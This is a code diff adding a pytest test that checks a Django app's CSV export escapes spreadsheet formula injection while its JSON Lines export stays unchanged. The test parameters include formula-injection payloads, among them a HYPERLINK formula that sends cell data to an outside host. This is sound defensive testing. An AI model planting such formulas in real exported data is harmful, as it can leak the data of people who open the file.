@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import json
 from datetime import timedelta
 from typing import Any
 
@@ -83,6 +84,29 @@ async def test_export_streams_csv_and_jsonl() -> None:
     assert csv[0].startswith("id,created_at,username") and len(csv) == 2501
     jsonl = b"".join([c async for c in s.export_rows(s.RequestFilter(), "jsonl")]).decode().splitlines()
     assert len(jsonl) == 2500 and '"requested_model":"m"' in jsonl[0]
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+@pytest.mark.parametrize(
+    "value", ['=HYPERLINK("http://x/?"&A1)', "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"]
+)
+async def test_csv_export_neutralises_spreadsheet_formulas(value: str) -> None:
+    """Cells a spreadsheet would run as a formula get a leading single quote (OWASP's advice);
+    the JSON Lines export is left exact."""
+    import csv
+    import io
+
+    from asgiref.sync import sync_to_async
+
+    await sync_to_async(rows)(1, requested_model=value, username=value, upstream_model="plain-model")
+    text = b"".join([c async for c in s.export_rows(s.RequestFilter(), "csv")]).decode()
+    header, row = list(csv.reader(io.StringIO(text, newline="")))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["requested_model"] == "'" + value and cells["username"] == "'" + value
+    assert cells["upstream_model"] == "plain-model" and cells["status"] == "200"
+    jsonl = b"".join([c async for c in s.export_rows(s.RequestFilter(), "jsonl")]).decode()
+    assert json.loads(jsonl)["requested_model"] == value
 
 
 def _brute_totals(by: str, f: s.RequestFilter) -> dict[str, tuple[int, int, int, int]]:
